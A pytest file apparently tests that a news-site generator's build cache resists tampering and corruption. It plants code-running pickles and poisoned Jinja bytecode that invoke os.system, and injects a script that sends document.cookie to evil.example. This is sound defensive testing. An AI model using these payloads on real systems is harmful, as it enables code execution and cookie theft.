"""The cache folder is untrusted input: CI restores ``.newsgen-cache/`` from caches
other branches can write, and a crash can leave it half-written.

Each case builds a real site with ``newsgen build``, tampers with the cache as an
attacker or a crash would, and builds again. The build must run no planted code
(a payload would create a marker file), exit 0 without a traceback, report the
cache in one warning (none where nothing it reads was touched), and write a site
byte-identical to a ``--no-cache`` build. As in CI, the output folder is not
restored with the cache: every page is rendered, every cached value read.
"""

from __future__ import annotations

import hashlib
import os
import pickle
import shutil
import sqlite3
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest
from tests.conftest import SiteFactory, run_cli, tree_bytes

CACHE = ".newsgen-cache"
DB = "cache.sqlite3"
FILES = {
    "content/2025/2025-03-05-bridge.md": (
        "---\ntitle: Mayor opens bridge\ndate: 2025-03-05\ntags: [city, transport]\n---\n\n"
        "Mayor Sara Khan opened the Ravi bridge in Lahore on Tuesday.\n\n"
        "The bridge links two districts of Lahore.\n"
    ),
    "content/2025/2025-03-06-budget.md": (
        "---\ntitle: Budget passed\ndate: 2025-03-06\ntags: [economy]\nmood: calm\n---\n\n"
        "The Punjab Assembly passed the budget. Sara Khan welcomed it.\n"
    ),
    "content/2025/2025-03-07-floods.txt": (
        "Floods reach Multan\n\nMULTAN: Water levels rose in Multan on Friday, officials said.\n\n"
        "The Punjab government sent boats.\n"
    ),
    "content/2025/2025-03-08-talks.md": (
        "---\ntitle: Talks in Karachi\ndate: 2025-03-08\ntags: [economy, city]\n---\n\n"
        "Officials met in Karachi. Sara Khan attended the talks.\n"
    ),
}


def _build(site: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return run_cli("--site", str(site), "build", "--no-search", *args)


@pytest.fixture(scope="module")
def reference(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    """The site built with ``--no-cache``: what every case must write."""
    site = tmp_path_factory.mktemp("reference")
    (site / "newsgen.yaml").write_text(
        "title: Test Times\nbase_url: https://news.example/\nsearch: false\n"
    )
    for rel, text in FILES.items():
        (site / rel).parent.mkdir(parents=True, exist_ok=True)
        (site / rel).write_text(text, encoding="utf-8")
    result = _build(site, "--no-cache")
    assert result.returncode == 0, result.stderr
    assert not (site / CACHE / DB).exists()
    return tree_bytes(site / "public")


# -- what an attacker plants ----------------------------------------------------------


def _short(text: str) -> bytes:
    data = text.encode()
    return b"\x8c" + bytes([len(data)]) + data


def planted_pickle(marker: Path) -> bytes:
    """The old exploit: STACK_GLOBAL ("newsgen.sources", "os.system"), which the old
    unpickler let through (its module is newsgen's), called with a command."""
    return (
        b"\x80\x04" + _short("newsgen.sources") + _short("os.system") + b"\x93"
        + _short(f"touch {marker}") + b"\x85R."
    )  # fmt: skip


class _System:
    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (os.system, (f"touch {self.marker}",))


def _db(site: Path) -> sqlite3.Connection:
    return sqlite3.connect(site / CACHE / DB, isolation_level=None)


def _columns(db: sqlite3.Connection, table: str) -> list[str]:
    return [row[1] for row in db.execute(f"PRAGMA table_info({table})")]


def _value_columns(db: sqlite3.Connection) -> list[str]:
    return [c for c in _columns(db, "articles") if c != "key"]


def _plant_pickles(site: Path, marker: Path) -> None:
    """A code-running pickle in every value column of every row and every meta row."""
    payload = planted_pickle(marker)
    with _db(site) as db:
        for column in _value_columns(db):
            db.execute(f"UPDATE articles SET {column} = ?", (payload,))
        db.execute("UPDATE scan SET problems = ?", (payload,))
        db.execute("UPDATE meta SET value = ? WHERE name NOT IN ('format', 'schema')", (payload,))


def _plant_sealed_pickles(site: Path, marker: Path) -> None:
    """The same pickles, each behind a correct check: a writer who knows the format
    (the check is a hash, not a secret) still cannot run code."""
    from newsgen.incremental.store import _meta_key, seal

    payload = planted_pickle(marker)
    with _db(site) as db:
        keys = [key for (key,) in db.execute("SELECT key FROM articles")]
        for key in keys:
            for column in _value_columns(db):
                blob = seal(key, column.encode(), payload)
                db.execute(f"UPDATE articles SET {column} = ? WHERE key = ?", (blob, key))
        names = [n for (n,) in db.execute("SELECT name FROM meta")]
        for name in names:
            if name not in ("format", "schema"):
                blob = seal(_meta_key(name), b"meta", payload)
                db.execute("UPDATE meta SET value = ? WHERE name = ?", (blob, name))


def _plant_bytecode(site: Path, marker: Path) -> None:
    """Jinja bytecode files that unpickle a payload, under the names Jinja's
    FileSystemBytecodeCache gives the theme's templates (and in any file there)."""
    import jinja2

    import newsgen

    folder = site / CACHE / "templates"
    folder.mkdir(exist_ok=True)
    theme = Path(newsgen.__file__).parent / "theme" / "templates"
    names = [p.relative_to(theme).as_posix() for p in theme.rglob("*") if p.is_file()]
    bcc = jinja2.FileSystemBytecodeCache(str(folder))
    evil = jinja2.bccache.bc_magic + pickle.dumps(_System(marker))
    for name in names:
        filename = os.path.normpath(os.path.join(str(theme), *name.split("/")))
        (folder / f"__jinja2_{bcc.get_cache_key(name, filename)}.cache").write_bytes(evil)
    for existing in folder.iterdir():
        existing.write_bytes(evil)


def _truncate_bytecode(site: Path, marker: Path) -> None:
    """Half-written compiled templates (the old bytecode cache's files cut short
    inside the pickled checksum, which Jinja unpickles before anything else)."""
    folder = site / CACHE / "templates"
    folder.mkdir(exist_ok=True)
    files = list(folder.iterdir()) or [folder / "__jinja2_0000.cache"]
    for file in files:
        data = file.read_bytes() if file.exists() else jinja_magic() + b"\x80\x04K"
        file.write_bytes(data[: len(jinja_magic()) + 2])


def jinja_magic() -> bytes:
    import jinja2

    return jinja2.bccache.bc_magic


def _first_body(db: sqlite3.Connection) -> tuple[bytes, object]:
    for key, body in db.execute("SELECT key, body FROM articles ORDER BY key"):
        if (b"Lahore" if isinstance(body, bytes) else "Lahore") in body:
            return key, body
    raise AssertionError("no cached body names Lahore")


def _alter_one_character(site: Path, marker: Path) -> None:
    """One letter of a body changed: 'Lahore' becomes 'Lahora' (a crash or a typo-squat)."""
    with _db(site) as db:
        key, body = _first_body(db)
        if isinstance(body, bytes):
            altered: object = body.replace(b"Lahore", b"Lahora", 1)
        else:
            altered = str(body).replace("Lahore", "Lahora", 1)
        assert altered != body
        db.execute("UPDATE articles SET body = ? WHERE key = ?", (altered, key))


def _plant_script(site: Path, marker: Path) -> None:
    with _db(site) as db:
        key, body = _first_body(db)
        script = "<script>fetch('https://evil.example/?c='+document.cookie)</script>"
        planted = body + script.encode() if isinstance(body, bytes) else f"{body}{script}"
        db.execute("UPDATE articles SET body = ? WHERE key = ?", (planted, key))


def _swap_article_rows(site: Path, marker: Path) -> None:
    """Two articles' rows exchange their values (keys stay)."""
    with _db(site) as db:
        (a, *_), (b, *_) = db.execute("SELECT key FROM articles ORDER BY key LIMIT 2")
        db.execute("UPDATE articles SET key = x'00' WHERE key = ?", (a,))
        db.execute("UPDATE articles SET key = ? WHERE key = ?", (a, b))
        db.execute("UPDATE articles SET key = ? WHERE key = x'00'", (b,))


def _swap_scan_rows(site: Path, marker: Path) -> None:
    """Two files' scan rows exchange their keys and warnings (stats stay)."""
    with _db(site) as db:
        rows = db.execute("SELECT path, key, problems FROM scan ORDER BY path LIMIT 2").fetchall()
        (pa, ka, wa), (pb, kb, wb) = rows
        db.execute("UPDATE scan SET key = ?, problems = ? WHERE path = ?", (kb, wb, pa))
        db.execute("UPDATE scan SET key = ?, problems = ? WHERE path = ?", (ka, wa, pb))


def _swap_and_reseal(site: Path, marker: Path) -> None:
    """Swapped values with correct checks for their new rows: the records still
    name the file they were made from."""
    from newsgen.incremental.store import seal, unseal

    with _db(site) as db:
        columns = _value_columns(db)
        rows = db.execute(f"SELECT key, {', '.join(columns)} FROM articles ORDER BY key").fetchall()
        (a, *va), (b, *vb) = rows[:2]
        for key, other, values in ((a, b, vb), (b, a, va)):
            for column, blob in zip(columns, values, strict=True):
                payload = unseal(other, column.encode(), blob)
                db.execute(
                    f"UPDATE articles SET {column} = ? WHERE key = ?",
                    (seal(key, column.encode(), payload), key),
                )
        db.execute("DELETE FROM meta WHERE name = 'heads'")


def _truncate_values(site: Path, marker: Path) -> None:
    """Every value cut to half its length, as a write cut short would leave it."""
    with _db(site) as db:
        for column in _value_columns(db):
            half = f"substr({column}, 1, length({column}) / 2)"
            db.execute(f"UPDATE articles SET {column} = {half} WHERE length({column}) > 1")
        db.execute("UPDATE meta SET value = substr(value, 1, length(value) / 2) "
                   "WHERE name NOT IN ('format', 'schema') AND length(value) > 1")  # fmt: skip


def _cache_is_a_file(site: Path, marker: Path) -> None:
    shutil.rmtree(site / CACHE)
    (site / CACHE).write_text("my notes\n")


def _database_is_a_folder(site: Path, marker: Path) -> None:
    for name in os.listdir(site / CACHE):
        if name.startswith(DB):
            os.remove(site / CACHE / name)
    (site / CACHE / DB).mkdir()
    (site / CACHE / DB / "inside").write_text("x")


def _drop_journals(site: Path) -> None:
    """A database alone, as a cache saved without its journals holds it (with
    them, SQLite reads the pages the journal holds and may never see the damage)."""
    for suffix in ("-wal", "-shm"):
        (site / CACHE / f"{DB}{suffix}").unlink(missing_ok=True)


def _garbage_database(site: Path, marker: Path) -> None:
    _drop_journals(site)
    (site / CACHE / DB).write_bytes(hashlib.sha512(b"garbage").digest() * 512)


def _truncated_database(site: Path, marker: Path) -> None:
    _drop_journals(site)
    path = site / CACHE / DB
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])


def _garbage_journal(site: Path, marker: Path) -> None:
    (site / CACHE / f"{DB}-wal").write_bytes(b"\x37\x7f\x06\x82" + b"\xff" * 5000)


Tamper = Callable[[Path, Path], None]
# (tamper, warnings about the cache expected on the next build)
CASES: dict[str, tuple[Tamper, int]] = {
    "pickle-in-every-value": (_plant_pickles, 1),
    "sealed-pickle-in-every-value": (_plant_sealed_pickles, 1),
    # newsgen no longer reads compiled templates from disk; its old folder is removed.
    "planted-jinja-bytecode": (_plant_bytecode, 0),
    "truncated-template-cache": (_truncate_bytecode, 0),
    "body-altered-by-one-character": (_alter_one_character, 1),
    "script-planted-in-body": (_plant_script, 1),
    "swapped-article-rows": (_swap_article_rows, 1),
    "swapped-scan-rows": (_swap_scan_rows, 1),
    "swapped-and-resealed-rows": (_swap_and_reseal, 1),
    "truncated-values": (_truncate_values, 1),
    "cache-folder-is-a-file": (_cache_is_a_file, 1),
    "database-is-a-folder": (_database_is_a_folder, 1),
    "garbage-database": (_garbage_database, 1),
    "truncated-database": (_truncated_database, 1),
    "garbage-journal": (_garbage_journal, 1),
}


def _cache_lines(result: subprocess.CompletedProcess[str]) -> list[str]:
    return [line for line in (result.stdout + result.stderr).splitlines() if CACHE in line]


@pytest.mark.parametrize("case", list(CASES))
def test_a_tampered_cache_is_never_trusted(
    case: str, make_site: SiteFactory, reference: dict[str, bytes], tmp_path: Path
) -> None:
    tamper, warnings = CASES[case]
    site = make_site(FILES)
    first = _build(site)
    assert first.returncode == 0, first.stderr
    assert _cache_lines(first) == []
    marker = tmp_path / "payload-ran"
    tamper(site, marker)
    # As in CI: the cache restored, the site built into a fresh checkout, so every
    # page is rendered and every value the cache holds is read.
    shutil.rmtree(site / "public")
    shutil.rmtree(site / ".public.spare", ignore_errors=True)
    result = _build(site)
    assert not marker.exists(), "a planted payload ran"
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stdout + result.stderr
    assert len(_cache_lines(result)) == warnings, result.stderr
    assert tree_bytes(site / "public") == reference
    assert not marker.exists()
    if case == "cache-folder-is-a-file":
        assert (site / CACHE).read_text() == "my notes\n"  # reported, never deleted
        return
    # The cache is trusted again once rebuilt: no warning, the same site.
    again = _build(site)
    assert again.returncode == 0 and _cache_lines(again) == [], again.stderr
    assert tree_bytes(site / "public") == reference
    assert (site / CACHE / DB).is_file()
    assert not (site / CACHE / "templates").exists()


def test_a_folder_in_place_of_the_database_of_a_folder_not_ours_is_left(
    make_site: SiteFactory, reference: dict[str, bytes]
) -> None:
    """A ``.newsgen-cache`` without newsgen's CACHEDIR.TAG is not newsgen's to
    empty: a folder found where the database goes is reported and kept."""
    site = make_site(FILES)
    (site / CACHE / DB).mkdir(parents=True)
    (site / CACHE / DB / "keep.txt").write_text("mine")
    result = _build(site)
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
    lines = _cache_lines(result)
    assert len(lines) == 1 and "building without a cache" in lines[0], lines
    assert (site / CACHE / DB / "keep.txt").read_text() == "mine"
    assert tree_bytes(site / "public") == reference
